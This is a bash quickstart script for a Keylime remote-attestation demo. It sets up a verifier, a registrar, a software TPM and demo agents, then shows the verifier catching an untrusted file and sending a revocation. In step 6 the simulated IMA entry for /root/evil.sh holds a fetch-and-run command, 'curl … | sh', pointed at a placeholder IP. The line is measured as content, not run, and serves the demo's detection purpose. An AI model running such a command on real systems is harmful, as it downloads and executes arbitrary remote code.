#!/usr/bin/env bash
# Sets up, builds and runs the main job on 127.0.0.1: keylime_verifier (generates the cv_ca mTLS
# certificates) and keylime_registrar with SQLite under ./out/keylime; a demo agent on swtpm with an IMA
# log registers and activates; it is added to the verifier with a runtime policy made from its own log
# (POST /v2.6/agents over mTLS with curl); it attests; then an untrusted /root/evil.sh is measured, the
# verifier fails the agent with the event id and a revocation goes to the other (bystander) agent.
# The services keep running in the foreground until Ctrl-C (KL_QUICKSTART_EXIT=1 stops after the demo).
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
if [ "${KL_SKIP_DEPS:-0}" != 1 ]; then scripts/install-deps.sh; fi
scripts/build.sh
BIN=$ROOT/${BUILD_DIR:-build}
OUT=$ROOT/out
# Ports (override to run beside another instance).
VPORT=${KL_VERIFIER_PORT:-8881}
RPORT=${KL_REGISTRAR_PORT:-8890}
RTLS=${KL_REGISTRAR_TLS_PORT:-8891}
SWPORT=${KL_SWTPM_PORT:-2321}
APORT=${KL_AGENT_PORT:-9002}
export KEYLIME_DIR=$OUT/keylime
mkdir -p "$KEYLIME_DIR" "$OUT/etc"
# The demo TPM is created afresh each run, so start from an empty demo database.
rm -f "$KEYLIME_DIR"/reg_data.sqlite*
chmod 700 "$KEYLIME_DIR"

rm -f "$KEYLIME_DIR"/cv_data.sqlite*
# The agents write their add-agent bodies once registered: a body left from an earlier run must not be taken for it.
rm -f "$OUT/add-agent.json" "$OUT/add-bystander.json"
step() { printf '\n=== %s\n' "$*"; }

cat > "$OUT/etc/verifier.conf" <<CONF
[verifier]
ip = 127.0.0.1
port = $VPORT
registrar_ip = 127.0.0.1
registrar_port = $RTLS
tls_dir = generate
quote_interval = 1
database_url = sqlite
CONF
export KEYLIME_VERIFIER_CONFIG=$OUT/etc/verifier.conf

# tls_dir = default: the registrar serves with the cv_ca certificates the verifier generates, and trusts
# the verifier's client certificate from the same CA.
cat > "$OUT/etc/registrar.conf" <<CONF
[registrar]
version = 2.6
ip = 127.0.0.1
port = $RPORT
tls_port = $RTLS
tls_dir = default
server_key = default
server_cert = default
trusted_client_ca = default
database_url = sqlite
tpm_identity = default
CONF
export KEYLIME_REGISTRAR_CONFIG=$OUT/etc/registrar.conf

# The demo agent's swtpm EK certificate comes from a local CA; trust its issuer.
mkdir -p "$OUT/tpm_cert_store"
cat > "$OUT/etc/tenant.conf" <<CONF
[tenant]
tpm_cert_store = $OUT/tpm_cert_store
CONF
export KEYLIME_TENANT_CONFIG=$OUT/etc/tenant.conf

# A software TPM with an EK certificate from a private local CA (as a TPM vendor would provision).
SW=$OUT/swtpm
rm -rf "$SW"; mkdir -p "$SW/ca" "$SW/state"
cat > "$SW/localca.conf" <<CONF
statedir = $SW/ca
signingkey = $SW/ca/signkey.pem
issuercert = $SW/ca/issuercert.pem
certserial = $SW/ca/certserial
CONF
printf -- '--platform-manufacturer KeylimeCpp\n--platform-version 2.1\n--platform-model swtpm\n' > "$SW/localca.options"
cat > "$SW/swtpm_setup.conf" <<CONF
create_certs_tool = /usr/bin/swtpm_localca
create_certs_tool_config = $SW/localca.conf
create_certs_tool_options = $SW/localca.options
CONF
XDG_CONFIG_HOME=$SW swtpm_setup --tpm2 --tpmstate "$SW/state" --config "$SW/swtpm_setup.conf" \
  --pcr-banks sha1,sha256 --create-ek-cert --create-platform-cert --lock-nvram --overwrite > "$SW/setup.log"
cp "$SW/ca/issuercert.pem" "$OUT/tpm_cert_store/swtpm-localca-issuer.pem"
cp "$SW/ca/swtpm-localca-rootca-cert.pem" "$OUT/tpm_cert_store/swtpm-localca-root.pem"
swtpm socket --tpm2 --tpmstate dir="$SW/state" --server type=tcp,port=$SWPORT,bindaddr=127.0.0.1 \
  --ctrl type=tcp,port=$((SWPORT + 1)),bindaddr=127.0.0.1 --flags not-need-init,startup-clear &
SWTPM_PID=$!
KL_SWTPM_TCTI="swtpm:host=127.0.0.1,port=$SWPORT"

step "1. keylime_verifier on https://127.0.0.1:$VPORT and keylime_registrar on 127.0.0.1:$RPORT (https $RTLS)"
"$BIN/keylime_verifier" > "$OUT/verifier.log" 2>&1 &
VER_PID=$!
PIDS="$SWTPM_PID $VER_PID"
trap 'kill $PIDS 2>/dev/null || true' EXIT
for _ in $(seq 100); do (echo > /dev/tcp/127.0.0.1/$VPORT) 2>/dev/null && break; sleep 0.1; done
"$BIN/keylime_registrar" > "$OUT/registrar.log" 2>&1 &
REG_PID=$!
PIDS="$PIDS $REG_PID"
for _ in $(seq 100); do (echo > /dev/tcp/127.0.0.1/$RTLS) 2>/dev/null && break; sleep 0.1; done
echo "logs: $OUT/verifier.log $OUT/registrar.log"

CA=$KEYLIME_DIR/cv_ca
TLS=(--cacert "$CA/cacert.crt" --cert "$CA/client-cert.crt" --key "$CA/client-private.pem")
UUID=d432fbb3-d2f1-4a97-9ef7-75bd81c00000
BYSTANDER=d432fbb3-d2f1-4a97-9ef7-75bd81c00001

step "2. the demo agent boots: its kernel logs IMA measurements (PCR 10 extended for each)"
IMA=$OUT/ima/ascii_runtime_measurements
mkdir -p "$OUT/ima"
: > "$IMA"
for f in boot_aggregate /usr/lib/systemd/systemd /usr/bin/bash /usr/sbin/sshd /usr/bin/ls; do
  "$BIN/tests/kl_test_agent" ima-line --path "$f" --content "contents of $f" >> "$IMA"
done
cat "$IMA"

step "3. the agent (swtpm) and a bystander agent register and activate at the registrar"
"$BIN/tests/kl_test_agent" serve --uuid "$UUID" --port $APORT --tcti "$KL_SWTPM_TCTI" --ca "$CA/cacert.crt" \
  --registrar 127.0.0.1:$RPORT --register --ima-log "$IMA" --write-add-body "$OUT/add-agent.json" \
  > "$OUT/agent.out" 2> "$OUT/agent.err" &
PIDS="$PIDS $!"
"$BIN/tests/kl_test_agent" serve --uuid "$BYSTANDER" --port $((APORT + 1)) --software --ca "$CA/cacert.crt" \
  --registrar 127.0.0.1:$RPORT --register --write-add-body "$OUT/add-bystander.json" \
  > "$OUT/bystander.out" 2> "$OUT/bystander.err" &
PIDS="$PIDS $!"
for _ in $(seq 100); do [ -s "$OUT/add-agent.json" ] && [ -s "$OUT/add-bystander.json" ] && break; sleep 0.1; done
head -c 300 "$OUT/agent.out"; echo
curl -s "${TLS[@]}" "https://127.0.0.1:$RTLS/v2.6/agents/$UUID" | head -c 300; echo

step "4. the tenant adds both to the verifier (mTLS, cv_ca client certificate); the runtime policy is the agent's own log"
curl -s "${TLS[@]}" -H 'Content-Type: application/json' -X POST --data @"$OUT/add-agent.json" \
  "https://127.0.0.1:$VPORT/v2.6/agents/$UUID"; echo
curl -s "${TLS[@]}" -H 'Content-Type: application/json' -X POST --data @"$OUT/add-bystander.json" \
  "https://127.0.0.1:$VPORT/v2.6/agents/$BYSTANDER"; echo

status() { curl -s "${TLS[@]}" "https://127.0.0.1:$VPORT/v2.6/agents/$UUID"; }
field() { status | sed -n "s/.*\"$1\": *\([^,}]*\).*/\1/p"; }
step "5. the verifier polls: quote, IMA replay against PCR 10, runtime policy"
for _ in $(seq 60); do c=$(field attestation_count); [ "${c:-0}" -ge 3 ] 2>/dev/null && break; sleep 0.5; done
echo "operational_state=$(field operational_state) attestation_status=$(field attestation_status) attestation_count=$(field attestation_count)"

step "6. an untrusted script runs: /root/evil.sh is measured (appended to the log, PCR 10 extended)"
"$BIN/tests/kl_test_agent" ima-line --path /root/evil.sh --content 'curl http://203.0.113.7/x | sh' | tee -a "$IMA"

step "7. the verifier fails the agent and sends a revocation"
for _ in $(seq 60); do [ "$(field operational_state)" = 9 ] && break; sleep 0.5; done
echo "operational_state=$(field operational_state) (9 = Invalid Quote) attestation_status=$(field attestation_status)"
echo "last_event_id=$(field last_event_id)"
grep -m1 'evil.sh' "$OUT/verifier.log" || true
for _ in $(seq 40); do grep -q revocation "$OUT/bystander.out" && break; sleep 0.25; done
echo "revocation received by the bystander agent:"
grep -m1 revocation "$OUT/bystander.out" | head -c 600; echo
if [ "${KL_QUICKSTART_EXIT:-0}" = 1 ]; then exit 0; fi
echo "verifier (pid $VER_PID) and registrar (pid $REG_PID) running; Ctrl-C to stop"
wait $VER_PID
